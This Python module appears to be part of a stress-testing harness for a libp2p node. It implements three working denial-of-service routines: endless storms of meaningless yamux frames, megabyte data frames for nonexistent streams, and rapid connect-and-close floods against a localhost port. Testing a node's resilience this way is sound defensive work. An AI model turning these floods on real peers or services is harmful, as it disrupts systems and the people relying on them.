"""Attacks below every protocol: frames of the multiplexer, and connections that come and go."""

from __future__ import annotations

import struct
from typing import Any

import trio
from libp2p.stream_muxer.yamux.yamux import (
    FLAG_ACK,
    TYPE_DATA,
    TYPE_PING,
    TYPE_WINDOW_UPDATE,
    YAMUX_HEADER_FORMAT,
)

from scripts.abuse_parts.target import Target, Visitor, until_thrown_out, visit

# Frames of one write: as many as fit into a message of Noise.
STORM = 5_000
# No stream has this number, and no frame this kind.
NO_STREAM, NO_KIND = 2**31 + 1, 7
MEGABYTE = 1_000_000
# A thousand a second.
CONNECTION_PAUSE_S = 0.001


async def write_frames(visitor: Visitor, frames: bytes) -> None:
    """Write past all streams."""
    (connection,) = visitor.host.swarm.connections[visitor.target.peer_id]
    muxed_conn: Any = connection.muxed_conn
    await muxed_conn._write_frame(frames)


async def frame_storm(target: Target) -> None:
    """Headers that mean nothing, five thousand in a write: answers to no ping, windows, no data, no kind at all."""
    kinds = (
        (TYPE_PING, FLAG_ACK, 0),
        (TYPE_WINDOW_UPDATE, 0, NO_STREAM),
        (NO_KIND, 0, 0),
        (TYPE_DATA, 0, NO_STREAM),
    )
    frames = [struct.pack(YAMUX_HEADER_FORMAT, 0, kind, flags, number, 0) * STORM for kind, flags, number in kinds]
    async with visit(target) as visitor:
        while True:
            for each in frames:
                await write_frames(visitor, each)
            await trio.sleep(target.pace_s)


async def streamless_data(target: Target) -> None:
    """Megabytes for a stream that there is not."""
    frame = struct.pack(YAMUX_HEADER_FORMAT, 0, TYPE_DATA, 0, NO_STREAM, MEGABYTE) + bytes(MEGABYTE)
    async with visit(target) as visitor:
        while True:
            await write_frames(visitor, frame)
            await trio.sleep(target.pace_s)


async def short_connections(target: Target) -> None:
    """Connections that end as soon as they are there, a thousand a second."""

    async def knock() -> None:
        with until_thrown_out():
            await (await trio.open_tcp_stream("127.0.0.1", target.port)).aclose()

    async with trio.open_nursery() as nursery:
        while True:
            nursery.start_soon(knock)
            await trio.sleep(max(target.pace_s, CONNECTION_PAUSE_S))
